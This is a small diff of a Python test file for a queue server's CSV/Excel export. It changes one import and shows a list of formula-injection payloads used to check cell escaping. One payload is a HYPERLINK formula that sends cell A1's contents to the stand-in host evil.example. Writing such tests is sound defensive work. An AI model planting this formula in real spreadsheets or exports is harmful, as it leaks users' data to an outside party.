@@ -8,7 +8,7 @@ import io
 import openpyxl
 
 from queue_server.exports import FORMULA_START, csv_cell, from_csv_cell
-from tests.security.conftest import bearer
+from tests.support import bearer
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此")', "+1", "-1+1", "@SUM(1+1)", "\t=1"]
 API = "/api/v1/halls/erdao"
